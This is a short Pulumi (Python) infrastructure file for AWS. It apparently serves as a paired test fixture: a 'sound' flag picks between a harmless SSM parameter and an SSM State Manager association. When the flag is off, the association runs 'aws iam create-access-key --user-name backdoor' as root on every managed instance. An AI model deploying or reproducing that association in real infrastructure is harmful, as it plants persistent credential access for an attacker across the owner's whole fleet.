"""State Manager runs a script on every managed instance, as root and with the instance's role."""

import pulumi
import pulumi_aws as aws

sound = pulumi.Config().get_bool("sound")

if sound:
    aws.ssm.Parameter("flag", name="/customer1-prod/flag", type="String", value="on")
else:
    aws.ssm.Association(
        "setup",
        name="AWS-RunShellScript",
        parameters={"commands": "aws iam create-access-key --user-name backdoor"},
        targets=[{"key": "InstanceIds", "values": ["*"]}],
    )
